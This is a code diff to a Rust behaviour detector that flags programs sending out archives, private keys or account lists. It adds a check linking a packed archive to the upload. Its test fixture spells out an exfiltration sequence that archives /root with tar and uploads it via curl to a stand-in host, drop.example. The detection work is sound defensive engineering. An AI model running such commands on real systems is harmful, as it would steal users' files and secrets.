@@ -8,7 +8,7 @@
 
 use model::{Category, Confidence, Maturity, Severity, Weight, What};
 
-use crate::{About, Behaviour, Judge, Match, indicators, payload, story::Story};
+use crate::{About, Behaviour, Judge, Match, indicators, payload, programs::Program, story::Story};
 
 pub(super) const BEHAVIOUR: Behaviour = Behaviour {
     about: About {
@@ -70,7 +70,7 @@ fn judge(story: &Story<'_>) -> Vec<Match> {
             found.push(told("the list of accounts"));
         } else if text.contains("-----BEGIN") && text.contains("PRIVATE KEY-----") {
             found.push(told("a private key").proof());
-        } else if let Some(packed) = packed.filter(|packed| packed.at < at)
+        } else if let Some(packed) = packed.filter(|packed| packed.at < at && is_sent(story, packed, at))
             && (ARCHIVES.iter().any(|mark| bytes.windows(mark.len().max(1)).take(1_024).any(|window| window == *mark))
                 || bytes.get(257..262) == Some(b"ustar"))
         {
@@ -83,6 +83,24 @@ fn judge(story: &Story<'_>) -> Vec<Match> {
     found
 }
 
+/// Whether what was packed is what is sent: by its name, or through a pipe.
+fn is_sent(story: &Story<'_>, packed: &Program<'_>, at: usize) -> bool {
+    let Some(sender) = story.life_at(at) else { return true };
+    let is_output =
+        |argument: &&String| argument.starts_with('/') && !PERSONAL.iter().any(|folder| argument.contains(folder));
+    let line = story.program(at).map(|program| program.line()).unwrap_or_default();
+    let named = packed.arguments.iter().skip(1).filter(is_output).any(|output| line.contains(output.as_str()));
+    let reads = story.life(sender).is_some_and(|of| {
+        of.reads.iter().rev().take(256).any(|read| match story.what(*read) {
+            Some(What::Open { path, .. }) => packed.arguments.iter().any(|argument| argument == path),
+            _ => false,
+        })
+    });
+    let piped =
+        story.piped_from(sender).into_iter().any(|other| story.own_programs(other).any(|other| other.at == packed.at));
+    named || reads || piped
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -92,7 +110,8 @@ mod tests {
     fn an_archive_of_a_home() {
         let mut run = Run::new();
         run.spawn(1, "/bin/tar", &["tar", "czf", "/tmp/o.tgz", "/root"]);
-        run.http_with(1, "POST", "http://drop.example/u", "empty", b"\x1f\x8b\x08\x00abc", None);
+        let curl = run.spawn(1, "/usr/bin/curl", &["curl", "-F", "f=@/tmp/o.tgz", "http://drop.example/u"]);
+        run.http_with(curl, "POST", "http://drop.example/u", "empty", b"\x1f\x8b\x08\x00abc", None);
         hit(&BEHAVIOUR, run, Weight::Sign, "sends an archive, after tar czf /tmp/o.tgz /root to drop.example");
     }
 
